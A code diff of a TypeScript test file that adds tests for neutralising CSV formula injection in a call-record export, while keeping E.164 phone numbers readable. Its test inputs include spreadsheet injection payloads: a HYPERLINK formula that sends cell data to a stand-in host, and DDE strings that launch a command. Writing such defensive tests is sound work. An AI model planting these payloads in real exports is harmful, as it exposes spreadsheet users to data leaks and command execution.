@@ -1,7 +1,7 @@
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import type { CallLegDto } from '../calls/calls.dto.js';
-import { CALL_CSV_COLUMNS, callCsvHeader, callCsvLine, csvField, csvLine } from './call-csv.js';
+import { CALL_CSV_COLUMNS, callCsvHeader, callCsvLine, csvField, csvLine, neutraliseFormula } from './call-csv.js';
 
 /** A strict RFC 4180 reader, to check the writer against. */
 const parseCsv = (text: string): string[][] => {
@@ -64,12 +64,30 @@ describe('CSV export rows', () => {
     const rows = parseCsv(callCsvHeader() + callCsvLine(leg));
     expect(rows[0]).toEqual([...CALL_CSV_COLUMNS]);
     const r = Object.fromEntries(rows[1]!.map((v, i) => [CALL_CSV_COLUMNS[i], v]));
-    expect(r).toMatchObject({ to: '"Sales", desk\r\nline 2', from: '+1 (312) 555-0100', endReason: 'hangup, caller', parentCallId: '', recordingIds: 'RE1;RE2', ringDurationSource: 'provider', talkDurationSec: '74.5', verification: 'imported' });
+    // Not a bare E.164 number, so a spreadsheet would evaluate it: prefixed (see the CSV injection test).
+    expect(r).toMatchObject({ to: '"Sales", desk\r\nline 2', from: "'+1 (312) 555-0100", endReason: 'hangup, caller', parentCallId: '', recordingIds: 'RE1;RE2', ringDurationSource: 'provider', talkDurationSec: '74.5', verification: 'imported' });
   });
 
-  it('round-trips any text', () => {
+  it('round-trips any text (formula-like text with its leading quote)', () => {
     fc.assert(fc.property(fc.array(fc.string({ unit: 'binary' }), { minLength: 1, maxLength: 6 }), (fields) => {
-        expect(parseCsv(csvLine(fields))).toEqual([fields]);
+        expect(parseCsv(csvLine(fields))).toEqual([fields.map(neutraliseFormula)]);
       }));
+  });
+
+  it('neutralises cells a spreadsheet would run as a formula (OWASP CSV injection), but keeps E.164 numbers readable', () => {
+    for (const evil of ['=HYPERLINK("http://x.example/?"&A1,"click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', '+', '=']) {
+      const [[cell]] = parseCsv(csvLine([evil]));
+      expect(cell).toBe(`'${evil}`);
+    }
+    for (const phone of ['+13125550100', '+442071838750', '+123456']) expect(csvField(phone)).toBe(phone);
+    // Not E.164 (too short, too long, or with other characters): prefixed like any formula.
+    for (const almost of ['+12345', '+1234567890123456', '+1 312 555 0100', '+1312555010a', '+13125550100=1']) expect(csvField(almost).startsWith("'")).toBe(true);
+    // Numbers and booleans are values, not text, and stay as they are; so does text that merely contains the characters.
+    expect(csvField(-1)).toBe('-1');
+    expect(csvField('a=b')).toBe('a=b');
+    expect(csvField('CA-1')).toBe('CA-1');
+    const row = parseCsv(callCsvLine({ ...leg, from: '+13125550147', to: '=cmd|"/C calc"!A0', endReason: '@evil' }))[0]!;
+    const r = Object.fromEntries(row.map((v, i) => [CALL_CSV_COLUMNS[i], v]));
+    expect(r).toMatchObject({ from: '+13125550147', to: '\'=cmd|"/C calc"!A0', endReason: "'@evil" });
   });
 });
